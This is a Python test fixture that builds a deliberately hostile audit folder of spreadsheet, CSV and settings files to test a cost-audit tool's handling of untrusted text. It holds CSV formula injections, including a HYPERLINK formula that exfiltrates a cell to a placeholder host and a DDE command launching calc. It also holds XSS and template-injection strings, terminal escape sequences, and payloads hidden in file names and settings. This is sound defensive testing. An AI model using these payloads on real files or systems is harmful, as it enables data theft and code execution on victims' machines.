"""An audit folder as a stranger may send it: every text of every table is an attack on somebody who opens a result."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl

FORMULAS = (
    '=HYPERLINK("http://a.invalid/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "plate;=1+1",
    "plate\n=1+1",
    "'=1+1",
    "''+1",
    "＝1+1",
    "12 V; -20 to 60 °C",
    "|=1",
)
"""Texts that a spreadsheet runs, or may run, when it opens a csv file that holds them unguarded; and harmless ones."""
MARKUP = (
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<!--<script>",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "&lt;b&gt;",
    "'onmouseover='alert(1)",
    "</title><base href=//a.invalid>",
    "]]>",
    "__proto__",
)
CONTROLS = ("\x1b[2J\x1b]0;owned\x07", "a\x9b31mred", "\u202egpj.exe", "bell\x07", "\x1b]8;;http://a.invalid\x1b\\x")
HOSTILE = (*FORMULAS, *MARKUP, *CONTROLS)

SETTINGS = """[audit]
as_of = 2026-06-30
currency = "EUR"
title = "</title><script>alert(1)</script>=1+1"
annual_volume = 900
[files]
bom = "bom.xlsx"
quotes = "<img src=x onerror=alert(1)>.csv"
decisions = "decisions.csv"
alternates = "alternates.csv"
standards = "standards.csv"
[sheets]
bom = "=1+1<b>"
"""


def write_csv(path: Path, rows: list[list[object]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)


def write_hostile(folder: Path) -> Path:
    """Write the folder; part numbers, descriptions, suppliers, names, notes and titles are hostile, one each."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "audit.toml").write_text(SETTINGS, encoding="utf-8")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "=1+1<b>"
    heads = [
        "Part number",
        "Description",
        "Qty",
        "Unit price",
        "Currency",
        "Cost date",
        "Supplier",
        "Commodity",
        "Owner",
        "Note",
        "UoM",
    ]
    for c, head in enumerate(heads, 1):
        sheet.cell(1, c, head)
    numbers = []
    for i, text in enumerate(HOSTILE):
        cell = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", text)
        number = f"{cell.strip()}" if i % 2 else f"P-{i:03d}"
        numbers.append(number)
        for c, value in enumerate(
            (
                number,
                "dc motor " + cell if i % 3 else cell,
                1 + i % 4,
                3.5 + i,
                "EUR",
                f"2019-0{1 + i % 9}-01",
                cell,
                ("dc_motor", cell)[i % 5 == 0],
                cell,
                cell,
                "pcs",
            ),
            1,
        ):
            place = sheet.cell(2 + i, c, value)
            if isinstance(value, str):
                place.data_type = "s"  # text, as a hostile file has it, not a formula of our own making
    book.save(folder / "bom.xlsx")
    write_csv(
        folder / "<img src=x onerror=alert(1)>.csv",
        [["part_no", "quote_date", "unit_price", "currency", "supplier", "kind"]]
        + [[n, f"202{i % 5}-03-31", 4 + i, "EUR", HOSTILE[i], "firm"] for i, n in enumerate(numbers)],
    )
    rows: list[list[object]] = [
        [
            "decision",
            "title",
            "option",
            "chosen",
            "element",
            "kind",
            "part_no",
            "qty",
            "amount",
            "currency",
            "decided_on",
            "annual_volume",
            "change_cost",
            "note",
        ]
    ]
    for i, text in enumerate(HOSTILE):
        common = ["EUR", "2019-06-30", 900, 2000, text]
        rows += [
            [text, text, text, "yes", text, "part", numbers[i], 1, "", *common],
            [text, text, "other " + text, "no", text, "assembly_labour", "", "", 2.5, *common],
        ]
    write_csv(folder / "decisions.csv", rows)
    write_csv(
        folder / "alternates.csv",
        [["part_no", "alternate_part_no", "description", "unit_cost", "currency", "cost_date", "note"]]
        + [[n, HOSTILE[-1 - i], HOSTILE[i], 3, "EUR", "2020-01-01", HOSTILE[i]] for i, n in enumerate(numbers)],
    )
    write_csv(
        folder / "standards.csv",
        [["part_no", "standard_cost", "currency", "set_on", "on_hand_qty", "annual_qty"]]
        + [[n, 3 + i, "EUR", "2025-12-31", 10, 900] for i, n in enumerate(numbers)],
    )
    return folder
